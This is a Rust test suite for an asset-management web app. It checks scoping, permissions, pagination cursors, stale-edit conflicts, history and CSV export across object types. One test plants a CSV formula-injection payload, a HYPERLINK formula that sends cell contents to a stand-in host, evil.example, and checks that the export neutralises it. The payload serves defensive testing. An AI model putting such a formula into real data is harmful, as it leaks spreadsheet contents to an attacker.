//! One suite run for every object type (NetBox's ViewTestCases): list, detail,
//! create, edit, stale edit, delete, history, CSV and API, each with and
//! without permission and out of scope. A type only describes its fixtures.

use axum::http::{Method, StatusCode};
use serde_json::{Value, json};
use uuid::Uuid;

use crate::helpers::TestApp;

/// What the suite needs to know about one object type.
pub struct Spec {
    pub plural: &'static str,
    /// Name in the history table.
    pub kind: &'static str,
    /// Table and the column holding `visible` / `hidden` / created names.
    pub table: &'static str,
    /// Someone who may view, create, change and delete in subsidiary A.
    pub manager: &'static str,
    /// Someone who may view but not create.
    pub reader: &'static str,
    /// Someone with no right on this type.
    pub outsider: &'static str,
    /// A fixture object in the manager's scope, and one outside it.
    pub visible: &'static str,
    /// None for types shared by every entity (the catalog).
    pub hidden: Option<&'static str>,
    /// The field a new object is named by in forms and JSON.
    pub name_field: &'static str,
    /// A field the form cannot do without.
    pub required: &'static str,
    /// Form fields of a valid new object named `name` (entity ids come from `app`).
    pub form: fn(&Ids, &str) -> Vec<(String, String)>,
    /// JSON body of a valid new object named `name`.
    pub body: fn(&Ids, &str) -> Value,
    /// Every sort key of the list (the SQL is built at run time, so each one is run here).
    pub sorts: &'static [&'static str],
    /// Filters as query strings; `{a}` stands for subsidiary A's id, `{c}` for
    /// the Portable category's, `{m}` for Dell's, `{k}` for the group's calendar's,
    /// `{sc}` for the Office software category's.
    pub filters: &'static [&'static str],
}

/// Fixture ids the specs refer to.
pub struct Ids {
    pub entity_a: Uuid,
    pub entity_b: Uuid,
    /// The "Portable" category, the "Dell" manufacturer, the "Latitude 5440"
    /// model and the "En stock" status.
    pub category: Uuid,
    pub manufacturer: Uuid,
    pub model: Uuid,
    pub status: Uuid,
    /// The group's "Heures de bureau" calendar.
    pub calendar: Uuid,
    /// The group's root entity; emp_a, tech_a, sup_a, the group "Equipe A"
    /// and the "Poste de travail" ticket category.
    pub root: Uuid,
    pub employee: Uuid,
    pub technician: Uuid,
    pub supervisor: Uuid,
    pub group: Uuid,
    pub ticket_category: Uuid,
    /// The "Office" software category (a default one).
    pub software_category: Uuid,
}

pub async fn ids(app: &TestApp) -> Ids {
    Ids {
        entity_a: app.id_of("entities", "Filiale A").await,
        entity_b: app.id_of("entities", "Filiale B").await,
        category: app.id_of("asset_categories", "Portable").await,
        manufacturer: app.id_of("manufacturers", "Dell").await,
        model: app.id_of("asset_models", "Latitude 5440").await,
        status: app.id_of("asset_statuses", "En stock").await,
        calendar: app.id_of("calendars", "Heures de bureau").await,
        root: app.id_of("entities", "Groupe").await,
        employee: app.id_of("users", "emp_a").await,
        technician: app.id_of("users", "tech_a").await,
        supervisor: app.id_of("users", "sup_a").await,
        group: app.id_of("groups", "Equipe A").await,
        ticket_category: app.id_of("ticket_categories", "Poste de travail").await,
        software_category: app.id_of("software_categories", "Office").await,
    }
}

async fn id_of(app: &TestApp, spec: &Spec, name: &str) -> Uuid {
    sqlx::query_scalar(&format!("select id from {} where {} = $1", spec.table, spec.name_field))
        .bind(name)
        .fetch_one(&app.pool)
        .await
        .unwrap_or_else(|e| panic!("no {} named {name}: {e}", spec.table))
}

pub fn pairs(fields: &[(String, String)]) -> Vec<(&str, &str)> {
    fields.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect()
}

pub async fn list_shows_only_the_scope(spec: &Spec) {
    let app = TestApp::new().await;
    let session = app.login(spec.manager).await;
    let page = session.get(&format!("/{}", spec.plural)).await;
    page.assert_status(StatusCode::OK);
    let cells = page.texts("table.list td").join("|");
    assert!(cells.contains(spec.visible), "{} missing from {cells}", spec.visible);
    if let Some(hidden) = spec.hidden {
        assert!(!cells.contains(hidden), "{hidden} leaked into {cells}");
    }

    let token = app.token(spec.manager).await;
    let api = app.api(Some(&token), Method::GET, &format!("/api/v1/{}?per_page=200", spec.plural), None).await;
    api.assert_status(StatusCode::OK);
    let listed = api.json()["items"].to_string();
    assert!(listed.contains(spec.visible) && !spec.hidden.is_some_and(|h| listed.contains(h)), "{listed}");
    assert_eq!(api.json()["total"].as_i64(), api.json()["items"].as_array().map(|a| a.len() as i64));
}

pub async fn list_search_sort_and_pages(spec: &Spec) {
    let app = TestApp::new().await;
    let session = app.login(spec.manager).await;
    let found = session.get(&format!("/{}?q={}", spec.plural, urlencode(&spec.visible[..4]))).await;
    found.assert_status(StatusCode::OK);
    assert!(found.texts("table.list td").join("|").contains(spec.visible));
    let nothing = session.get(&format!("/{}?q=zzzz-no-such-thing", spec.plural)).await;
    assert!(nothing.has(".empty"), "an empty search says so");
    for dir in ["asc", "desc"] {
        session.get(&format!("/{}?sort=name&dir={dir}", spec.plural)).await.assert_status(StatusCode::OK);
    }
    session.get(&format!("/{}?sort=password_hash", spec.plural)).await.assert_status(StatusCode::BAD_REQUEST);
    let token = app.token(spec.manager).await;
    let page = app.api(Some(&token), Method::GET, &format!("/api/v1/{}?per_page=1&page=2", spec.plural), None).await;
    page.assert_status(StatusCode::OK);
    assert_eq!(page.json()["page"], 2);
    assert!(page.json()["items"].as_array().is_some_and(|a| a.len() <= 1));
}

/// The `next_cursor` a list sorted on its own table would give after the row with this id.
pub fn cursor_of(id: Uuid) -> String {
    use base64::Engine as _;
    base64::engine::general_purpose::URL_SAFE_NO_PAD.encode([&[1u8][..], id.as_bytes()].concat())
}

fn item_ids(page: &Value) -> Vec<String> {
    let items = page["items"].as_array().expect("items");
    items.iter().map(|item| item["id"].as_str().expect("id").to_owned()).collect()
}

/// The ids of a whole list read page number after page number (`query` sets per_page).
pub async fn walk_by_pages(app: &TestApp, token: &str, path: &str, query: &str) -> Vec<String> {
    let mut ids = Vec::new();
    for number in 1.. {
        let page = app.api(Some(token), Method::GET, &format!("{path}?{query}&page={number}"), None).await;
        page.assert_status(StatusCode::OK);
        let page = page.json();
        let items = item_ids(&page);
        let next = app.api(Some(token), Method::GET, &format!("{path}?{query}&page={}", number + 1), None).await;
        let last = next.json()["items"].as_array().is_some_and(Vec::is_empty);
        assert_eq!(page["next_cursor"].is_null(), last, "{query}, page {number}: next_cursor only before the end");
        ids.extend(items);
        if last {
            return ids;
        }
    }
    unreachable!()
}

/// The ids of a whole list read by following `next_cursor`.
pub async fn walk_by_cursor(app: &TestApp, token: &str, path: &str, query: &str) -> Vec<String> {
    let mut ids = Vec::new();
    let mut url = format!("{path}?{query}");
    for _ in 0..1000 {
        let page = app.api(Some(token), Method::GET, &url, None).await;
        page.assert_status(StatusCode::OK);
        let page = page.json();
        ids.extend(item_ids(&page));
        match page["next_cursor"].as_str() {
            Some(cursor) => url = format!("{path}?{query}&after={cursor}"),
            None => return ids,
        }
    }
    panic!("{query}: the cursors never end")
}

/// A 400 problem that names nothing of the list.
pub fn assert_refused(response: &crate::helpers::TestResponse, secret: Option<&str>) {
    response.assert_status(StatusCode::BAD_REQUEST);
    assert!(response.header("content-type").starts_with("application/problem+json"));
    let body = response.json().to_string();
    assert!(secret.is_none_or(|s| !body.contains(s)), "{body}");
}

pub async fn cursors_walk_like_pages(spec: &Spec) {
    let app = TestApp::new().await;
    let token = app.token(spec.manager).await;
    let path = format!("/api/v1/{}", spec.plural);
    for sort in spec.sorts {
        for dir in ["asc", "desc"] {
            let query = format!("sort={sort}&dir={dir}&per_page=1");
            let by_page = walk_by_pages(&app, &token, &path, &query).await;
            assert!(!by_page.is_empty(), "{query}");
            assert_eq!(walk_by_cursor(&app, &token, &path, &query).await, by_page, "{query}");
        }
    }
    let first = app.api(Some(&token), Method::GET, &format!("{path}?per_page=1"), None).await.json();
    let listed = first["items"][0]["id"].as_str().and_then(|id| id.parse().ok()).expect("a row");
    let forged = [String::from("not a cursor"), "AAAA".into(), cursor_of(Uuid::now_v7())];
    for after in forged.iter().map(|a| urlencode(a)).chain([format!("{}&page=2", cursor_of(listed))]) {
        assert_refused(&app.api(Some(&token), Method::GET, &format!("{path}?after={after}"), None).await, None);
    }
    if let Some(hidden) = spec.hidden {
        let after = cursor_of(id_of(&app, spec, hidden).await);
        let response = app.api(Some(&token), Method::GET, &format!("{path}?after={after}"), None).await;
        assert_refused(&response, Some(hidden));
    }
}

pub async fn every_sort_and_filter_runs(spec: &Spec) {
    let app = TestApp::new().await;
    let ids = ids(&app).await;
    let token = app.token(spec.manager).await;
    let session = app.login(spec.manager).await;
    for sort in spec.sorts {
        for dir in ["asc", "desc"] {
            let query = format!("sort={sort}&dir={dir}&q=a");
            let api = app.api(Some(&token), Method::GET, &format!("/api/v1/{}?{query}", spec.plural), None).await;
            api.assert_status(StatusCode::OK);
            session.get(&format!("/{}?{query}", spec.plural)).await.assert_status(StatusCode::OK);
            session.get(&format!("/{}/export.csv?{query}", spec.plural)).await.assert_status(StatusCode::OK);
        }
    }
    let all = app.api(Some(&token), Method::GET, &format!("/api/v1/{}?per_page=200", spec.plural), None).await.json()["total"].as_i64();
    for filter in spec.filters {
        let query = filter
            .replace("{a}", &ids.entity_a.to_string())
            .replace("{c}", &ids.category.to_string())
            .replace("{m}", &ids.manufacturer.to_string())
            .replace("{mo}", &ids.model.to_string())
            .replace("{s}", &ids.status.to_string())
            .replace("{k}", &ids.calendar.to_string())
            .replace("{sc}", &ids.software_category.to_string());
        let api =
            app.api(Some(&token), Method::GET, &format!("/api/v1/{}?{query}&per_page=200", spec.plural), None).await;
        api.assert_status(StatusCode::OK);
        let total = api.json()["total"].as_i64();
        assert!(total <= all, "{query} narrows the list");
        session.get(&format!("/{}?{query}", spec.plural)).await.assert_status(StatusCode::OK);
    }
    // A value a filter cannot take is a 400, on the page and in the API.
    for filter in spec.filters {
        let key = filter.split('=').next().unwrap_or_default();
        let query = format!("{key}=bogus%27value");
        let api = app.api(Some(&token), Method::GET, &format!("/api/v1/{}?{query}", spec.plural), None).await;
        api.assert_status(StatusCode::BAD_REQUEST);
        session.get(&format!("/{}?{query}", spec.plural)).await.assert_status(StatusCode::BAD_REQUEST);
    }
}

pub async fn no_right_means_403_everywhere(spec: &Spec) {
    let app = TestApp::new().await;
    let session = app.login(spec.outsider).await;
    for path in [format!("/{}", spec.plural), format!("/{}/export.csv", spec.plural), format!("/{}/new", spec.plural)] {
        session.get(&path).await.assert_status(StatusCode::FORBIDDEN);
    }
    let token = app.token(spec.outsider).await;
    app.api(Some(&token), Method::GET, &format!("/api/v1/{}", spec.plural), None)
        .await
        .assert_status(StatusCode::FORBIDDEN);
    // Without logging in: the login page for pages, 401 for the API.
    let anonymous = app.get(&format!("/{}", spec.plural)).await;
    anonymous.assert_status(StatusCode::SEE_OTHER);
    assert_eq!(anonymous.location(), format!("/login?next=%2F{}", spec.plural));
    app.api(None, Method::GET, &format!("/api/v1/{}", spec.plural), None).await.assert_status(StatusCode::UNAUTHORIZED);
}

pub async fn out_of_scope_is_a_missing_object(spec: &Spec) {
    let app = TestApp::new().await;
    let Some(hidden) = spec.hidden else {
        return missing_objects_are_404(&app, spec).await;
    };
    let hidden = id_of(&app, spec, hidden).await;
    let missing = Uuid::now_v7();
    let session = app.login(spec.manager).await;
    for suffix in ["", "/edit", "/history", "/delete"] {
        let outside = session.get(&format!("/{}/{hidden}{suffix}", spec.plural)).await;
        let absent = session.get(&format!("/{}/{missing}{suffix}", spec.plural)).await;
        outside.assert_status(StatusCode::NOT_FOUND);
        absent.assert_status(StatusCode::NOT_FOUND);
        // Each page names its own path (the language form returns to it); nothing else differs.
        let outside_body = outside.without_request_id().replace(&hidden.to_string(), "ID");
        let absent_body = absent.without_request_id().replace(&missing.to_string(), "ID");
        assert_eq!(outside_body, absent_body, "{suffix}");
    }
    session.get(&format!("/{}/not-a-uuid", spec.plural)).await.assert_status(StatusCode::NOT_FOUND);
    let token = app.token(spec.manager).await;
    for suffix in ["", "/history"] {
        let outside =
            app.api(Some(&token), Method::GET, &format!("/api/v1/{}/{hidden}{suffix}", spec.plural), None).await;
        let absent =
            app.api(Some(&token), Method::GET, &format!("/api/v1/{}/{missing}{suffix}", spec.plural), None).await;
        outside.assert_status(StatusCode::NOT_FOUND);
        assert_eq!(outside.body, absent.body, "API bodies must not tell them apart");
    }
    let patch = app
        .api(Some(&token), Method::PATCH, &format!("/api/v1/{}/{hidden}", spec.plural), Some(json!({"version": 1})))
        .await;
    patch.assert_status(StatusCode::NOT_FOUND);
    app.api(Some(&token), Method::DELETE, &format!("/api/v1/{}/{hidden}", spec.plural), None)
        .await
        .assert_status(StatusCode::NOT_FOUND);
    assert!(app.history(spec.kind, hidden).await.iter().all(|(action, ..)| action == "create"), "nothing written");
}

/// For shared types: a missing or malformed id is a 404 everywhere.
async fn missing_objects_are_404(app: &TestApp, spec: &Spec) {
    let missing = Uuid::now_v7();
    let session = app.login(spec.manager).await;
    for suffix in ["", "/edit", "/history", "/delete"] {
        session.get(&format!("/{}/{missing}{suffix}", spec.plural)).await.assert_status(StatusCode::NOT_FOUND);
    }
    session.get(&format!("/{}/not-a-uuid", spec.plural)).await.assert_status(StatusCode::NOT_FOUND);
    let token = app.token(spec.manager).await;
    let absent = app.api(Some(&token), Method::GET, &format!("/api/v1/{}/{missing}", spec.plural), None).await;
    absent.assert_status(StatusCode::NOT_FOUND);
    assert_eq!(absent.json()["type"], "urn:parc:problem:not-found");
    let patch = app
        .api(Some(&token), Method::PATCH, &format!("/api/v1/{}/{missing}", spec.plural), Some(json!({"version": 1})))
        .await;
    patch.assert_status(StatusCode::NOT_FOUND);
}

pub async fn create_writes_the_row_and_its_history(spec: &Spec) {
    let app = TestApp::new().await;
    let ids = ids(&app).await;
    let session = app.login(spec.manager).await;
    let fields = (spec.form)(&ids, "Created By Form");
    let created = session.post(&format!("/{}", spec.plural), &pairs(&fields)).await;
    created.assert_status(StatusCode::SEE_OTHER);
    let id = id_of(&app, spec, "Created By Form").await;
    assert_eq!(created.location(), format!("/{}/{id}", spec.plural));
    let shown = session.get(created.location()).await;
    assert!(shown.body.contains("Created By Form") && shown.has(".flash-success"));
    assert_eq!(app.history(spec.kind, id).await, vec![("create".into(), spec.manager.into(), "web".into())]);
}

pub async fn reader_cannot_create(spec: &Spec) {
    let app = TestApp::new().await;
    let ids = ids(&app).await;
    let session = app.login(spec.reader).await;
    let fields = (spec.form)(&ids, "Not Allowed");
    session.post(&format!("/{}", spec.plural), &pairs(&fields)).await.assert_status(StatusCode::FORBIDDEN);
    let token = app.token(spec.reader).await;
    let body = (spec.body)(&ids, "Not Allowed Either");
    app.api(Some(&token), Method::POST, &format!("/api/v1/{}", spec.plural), Some(body))
        .await
        .assert_status(StatusCode::FORBIDDEN);
    let count: i64 = sqlx::query_scalar(&format!(
        "select count(*) from {} where {} like 'Not Allowed%'",
        spec.table, spec.name_field
    ))
    .fetch_one(&app.pool)
    .await
    .expect("count");
    assert_eq!(count, 0);
}

pub async fn bad_values_come_back_marked_and_kept(spec: &Spec) {
    let app = TestApp::new().await;
    let ids = ids(&app).await;
    let session = app.login(spec.manager).await;
    let mut fields = (spec.form)(&ids, "");
    let long = "x".repeat(100_000);
    for value in ["", "   ", long.as_str()] {
        for field in fields.iter_mut().filter(|(k, _)| k == spec.required) {
            field.1 = value.to_owned();
        }
        let page = session.post(&format!("/{}", spec.plural), &pairs(&fields)).await;
        page.assert_status(StatusCode::UNPROCESSABLE_ENTITY);
        let marked = format!(".field.has-error #f-{}[aria-invalid=true]", spec.required);
        assert!(page.has(&marked), "{marked} in {}", page.body);
        assert!(page.has(".field-error"));
    }
    // Out-of-scope entity: refused as an invalid choice, nothing written.
    let mut outside = (spec.form)(&ids, "Smuggled");
    if !outside.iter().any(|(k, _)| k == "entity_id" || k == "parent_id") {
        return; // a type shared by every entity has no entity to smuggle
    }
    for field in outside.iter_mut().filter(|(k, _)| k == "entity_id" || k == "parent_id") {
        field.1 = ids.entity_b.to_string();
    }
    let refused = session.post(&format!("/{}", spec.plural), &pairs(&outside)).await;
    refused.assert_status(StatusCode::UNPROCESSABLE_ENTITY);
    let count: i64 =
        sqlx::query_scalar(&format!("select count(*) from {} where {} = 'Smuggled'", spec.table, spec.name_field))
            .fetch_one(&app.pool)
            .await
            .expect("count");
    assert_eq!(count, 0);
}

pub async fn stale_edit_is_refused_naming_who(spec: &Spec) {
    let app = TestApp::new().await;
    let id = id_of(&app, spec, spec.visible).await;
    let session = app.login(spec.manager).await;
    let form = session.get(&format!("/{}/{id}/edit", spec.plural)).await;
    form.assert_status(StatusCode::OK);
    let document = scraper::Html::parse_document(&form.body);
    let selector = scraper::Selector::parse("form.form input, form.form select, form.form textarea").expect("selector");
    let mut fields: Vec<(String, String)> = document
        .select(&selector)
        .filter_map(|e| {
            let name = e.value().attr("name")?.to_owned();
            let value = match e.value().name() {
                "select" => e
                    .select(&scraper::Selector::parse("option[selected]").expect("selector"))
                    .next()
                    .and_then(|o| o.value().attr("value"))
                    .unwrap_or_default()
                    .to_owned(),
                "textarea" => e.text().collect(),
                _ if e.value().attr("type") == Some("checkbox") => {
                    if e.value().attr("checked").is_some() {
                        "on".into()
                    } else {
                        return None;
                    }
                }
                _ => e.value().attr("value").unwrap_or_default().to_owned(),
            };
            Some((name, value))
        })
        .filter(|(name, _)| name != "_csrf")
        .collect();
    // A colleague saves first, through the API.
    let other = app.token("admin").await;
    let version: i64 =
        fields.iter().find(|(k, _)| k == "version").and_then(|(_, v)| v.parse().ok()).expect("version field");
    let patched = app
        .api(
            Some(&other),
            Method::PATCH,
            &format!("/api/v1/{}/{id}", spec.plural),
            Some(json!({"version": version, spec.name_field: "Renamed By Colleague"})),
        )
        .await;
    patched.assert_status(StatusCode::OK);
    // Our stale form is refused, keeps what we typed, and says who changed it.
    for field in fields.iter_mut().filter(|(k, _)| k == spec.name_field) {
        field.1 = "Our Late Edit".into();
    }
    let refused = session.post(&format!("/{}/{id}/edit", spec.plural), &pairs(&fields)).await;
    refused.assert_status(StatusCode::UNPROCESSABLE_ENTITY);
    let notice = refused.texts("[data-testid=notice]").join(" ");
    assert!(notice.contains("admin"), "names the colleague: {notice}");
    assert!(refused.body.contains("Our Late Edit"), "keeps the input");
    let stored: String = sqlx::query_scalar(&format!("select {} from {} where id = $1", spec.name_field, spec.table))
        .bind(id)
        .fetch_one(&app.pool)
        .await
        .expect("stored");
    assert_eq!(stored, "Renamed By Colleague");
}

pub async fn delete_asks_first_and_keeps_history(spec: &Spec) {
    let app = TestApp::new().await;
    let ids = ids(&app).await;
    let token = app.token(spec.manager).await;
    let created = app
        .api(Some(&token), Method::POST, &format!("/api/v1/{}", spec.plural), Some((spec.body)(&ids, "To Be Deleted")))
        .await;
    created.assert_status(StatusCode::CREATED);
    let id = created.json()["id"].as_str().expect("id").to_owned();
    let session = app.login(spec.manager).await;
    let confirm = session.get(&format!("/{}/{id}/delete", spec.plural)).await;
    confirm.assert_status(StatusCode::OK);
    assert!(confirm.has(".danger-zone form"), "asks before deleting");
    assert!(app.history(spec.kind, id.parse().expect("uuid")).await.len() == 1, "a GET deletes nothing");
    let deleted = session.post(&format!("/{}/{id}/delete", spec.plural), &[]).await;
    deleted.assert_status(StatusCode::SEE_OTHER);
    assert_eq!(deleted.location(), format!("/{}", spec.plural));
    session.get(&format!("/{}/{id}", spec.plural)).await.assert_status(StatusCode::NOT_FOUND);
    let history = app.history(spec.kind, id.parse().expect("uuid")).await;
    assert_eq!(
        history.last().map(|h| (h.0.as_str(), h.1.as_str(), h.2.as_str())),
        Some(("delete", spec.manager, "web"))
    );
}

pub async fn history_tab_shows_old_and_new(spec: &Spec) {
    let app = TestApp::new().await;
    let id = id_of(&app, spec, spec.visible).await;
    let token = app.token(spec.manager).await;
    let current = app.api(Some(&token), Method::GET, &format!("/api/v1/{}/{id}", spec.plural), None).await.json();
    let version = current["version"].as_i64().expect("version");
    app.api(
        Some(&token),
        Method::PATCH,
        &format!("/api/v1/{}/{id}", spec.plural),
        Some(json!({"version": version, spec.name_field: "Renamed Once"})),
    )
    .await
    .assert_status(StatusCode::OK);
    let session = app.login(spec.manager).await;
    let tab = session.get(&format!("/{}/{id}/history", spec.plural)).await;
    tab.assert_status(StatusCode::OK);
    assert!(tab.texts("table.history .old").iter().any(|t| t == spec.visible), "old value shown");
    assert!(tab.texts("table.history .new").iter().any(|t| t == "Renamed Once"), "new value shown");
    assert!(tab.texts("table.history td").iter().any(|t| t.starts_with(spec.manager)), "who");
    let api = app.api(Some(&token), Method::GET, &format!("/api/v1/{}/{id}/history", spec.plural), None).await;
    let newest = &api.json()[0];
    assert_eq!(newest["actor_label"], spec.manager);
    assert_eq!(newest["source"], "api");
    assert_eq!(newest["changes"][spec.name_field], json!({"old": spec.visible, "new": "Renamed Once"}));
}

pub async fn csv_is_scoped_and_neutralised(spec: &Spec) {
    let app = TestApp::new().await;
    let ids = ids(&app).await;
    let token = app.token(spec.manager).await;
    let payload = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")";
    let body = (spec.body)(&ids, payload);
    app.api(Some(&token), Method::POST, &format!("/api/v1/{}", spec.plural), Some(body))
        .await
        .assert_status(StatusCode::CREATED);
    let session = app.login(spec.manager).await;
    let csv = session.get(&format!("/{}/export.csv?sort=name&dir=desc", spec.plural)).await;
    csv.assert_status(StatusCode::OK);
    assert_eq!(csv.header("content-type"), "text/csv; charset=utf-8");
    assert!(csv.header("content-disposition").starts_with("attachment"));
    assert_eq!(csv.header("x-content-type-options"), "nosniff");
    assert!(
        csv.body.contains(spec.visible) && !spec.hidden.is_some_and(|h| csv.body.contains(h)),
        "scoped: {}",
        csv.body
    );
    assert!(csv.body.contains("\"'=HYPERLINK("), "formula neutralised: {}", csv.body);
    assert!(!csv.body.lines().any(|line| line.starts_with("=") || line.contains(",=")));
    let rows = csv.body.lines().count() - 1;
    let listed =
        app.api(Some(&token), Method::GET, &format!("/api/v1/{}", spec.plural), None).await.json()["total"].as_u64();
    assert_eq!(Some(rows as u64), listed, "the export has the list's rows");
}

pub async fn api_create_change_and_conflicts(spec: &Spec) {
    let app = TestApp::new().await;
    let ids = ids(&app).await;
    let token = app.token(spec.manager).await;
    let base = format!("/api/v1/{}", spec.plural);
    let created = app.api(Some(&token), Method::POST, &base, Some((spec.body)(&ids, "Made By Api"))).await;
    created.assert_status(StatusCode::CREATED);
    let object = created.json();
    let id = object["id"].as_str().expect("id").to_owned();
    assert_eq!(object[spec.name_field], "Made By Api");
    assert_eq!(object["version"], 1);
    let path = format!("{base}/{id}");

    // Server-owned fields and unknown fields are refused, not ignored silently.
    for extra in
        [json!({"id": Uuid::now_v7()}), json!({"created_at": "2020-01-01T00:00:00Z"}), json!({"role": "admin"})]
    {
        let mut body = (spec.body)(&ids, "Extra Field");
        if let (Some(target), Some(source)) = (body.as_object_mut(), extra.as_object()) {
            target.extend(source.clone());
        }
        let refused = app.api(Some(&token), Method::POST, &base, Some(body)).await;
        refused.assert_status(StatusCode::UNPROCESSABLE_ENTITY);
        assert_eq!(refused.header("content-type"), "application/problem+json");
    }
    // No version: 428. Right version: 200. Same version again: 409 naming who.
    app.api(Some(&token), Method::PATCH, &path, Some(json!({spec.name_field: "No Version"})))
        .await
        .assert_status(StatusCode::PRECONDITION_REQUIRED);
    let changed = app
        .api(Some(&token), Method::PATCH, &path, Some(json!({"version": 1, spec.name_field: "Changed By Api"})))
        .await;
    changed.assert_status(StatusCode::OK);
    assert_eq!(changed.json()["version"], 2);
    let stale =
        app.api(Some(&token), Method::PATCH, &path, Some(json!({"version": 1, spec.name_field: "Stale Change"}))).await;
    stale.assert_status(StatusCode::CONFLICT);
    assert_eq!(stale.json()["type"], "urn:parc:problem:stale-edit");
    assert!(stale.json()["detail"].as_str().is_some_and(|d| d.contains(spec.manager)));
    // If-Match works as the version too.
    let request = axum::http::Request::patch(&path)
        .header("authorization", format!("Bearer {token}"))
        .header("content-type", "application/json")
        .header("if-match", "\"2\"")
        .body(axum::body::Body::from(json!({spec.name_field: "Via If-Match"}).to_string()))
        .expect("request");
    app.send(request).await.assert_status(StatusCode::OK);
    // Wrong type: 422 problem with a readable detail.
    let wrong = app.api(Some(&token), Method::PATCH, &path, Some(json!({"version": 3, spec.name_field: 42}))).await;
    wrong.assert_status(StatusCode::UNPROCESSABLE_ENTITY);
    // Missing field marked in the problem's errors.
    let blank = app.api(Some(&token), Method::PATCH, &path, Some(json!({"version": 3, spec.required: " "}))).await;
    blank.assert_status(StatusCode::UNPROCESSABLE_ENTITY);
    if spec.required == spec.name_field {
        assert_eq!(blank.json()["errors"][0]["field"], spec.required);
        assert_eq!(blank.json()["errors"][0]["code"], "field-required");
    } else {
        // An id field given text is a type error: refused before any field check.
        assert_eq!(blank.json()["type"], "urn:parc:problem:unprocessable");
    }

    let history = app.history(spec.kind, id.parse().expect("uuid")).await;
    assert_eq!(history.len(), 3, "create and two changes: {history:?}");
    assert!(history.iter().all(|(_, who, source)| who == spec.manager && source == "api"));
    app.api(Some(&token), Method::DELETE, &path, None).await.assert_status(StatusCode::NO_CONTENT);
    app.api(Some(&token), Method::GET, &path, None).await.assert_status(StatusCode::NOT_FOUND);
}

pub fn urlencode(value: &str) -> String {
    parc::web::urlencode(value)
}

/// Generates one `#[tokio::test]` per suite function for a type.
#[macro_export]
macro_rules! resource_suite {
    ($module:ident, $spec:expr) => {
        mod $module {
            use $crate::resources::*;
            const SPEC: Spec = $spec;
            #[tokio::test]
            async fn list_shows_only_the_scope() {
                super::resources::list_shows_only_the_scope(&SPEC).await;
            }
            #[tokio::test]
            async fn list_search_sort_and_pages() {
                super::resources::list_search_sort_and_pages(&SPEC).await;
            }
            #[tokio::test]
            async fn cursors_walk_like_pages() {
                super::resources::cursors_walk_like_pages(&SPEC).await;
            }
            #[tokio::test]
            async fn every_sort_and_filter_runs() {
                super::resources::every_sort_and_filter_runs(&SPEC).await;
            }
            #[tokio::test]
            async fn no_right_means_403_everywhere() {
                super::resources::no_right_means_403_everywhere(&SPEC).await;
            }
            #[tokio::test]
            async fn out_of_scope_is_a_missing_object() {
                super::resources::out_of_scope_is_a_missing_object(&SPEC).await;
            }
            #[tokio::test]
            async fn create_writes_the_row_and_its_history() {
                super::resources::create_writes_the_row_and_its_history(&SPEC).await;
            }
            #[tokio::test]
            async fn reader_cannot_create() {
                super::resources::reader_cannot_create(&SPEC).await;
            }
            #[tokio::test]
            async fn bad_values_come_back_marked_and_kept() {
                super::resources::bad_values_come_back_marked_and_kept(&SPEC).await;
            }
            #[tokio::test]
            async fn stale_edit_is_refused_naming_who() {
                super::resources::stale_edit_is_refused_naming_who(&SPEC).await;
            }
            #[tokio::test]
            async fn delete_asks_first_and_keeps_history() {
                super::resources::delete_asks_first_and_keeps_history(&SPEC).await;
            }
            #[tokio::test]
            async fn history_tab_shows_old_and_new() {
                super::resources::history_tab_shows_old_and_new(&SPEC).await;
            }
            #[tokio::test]
            async fn csv_is_scoped_and_neutralised() {
                super::resources::csv_is_scoped_and_neutralised(&SPEC).await;
            }
            #[tokio::test]
            async fn api_create_change_and_conflicts() {
                super::resources::api_create_change_and_conflicts(&SPEC).await;
            }
        }
    };
}
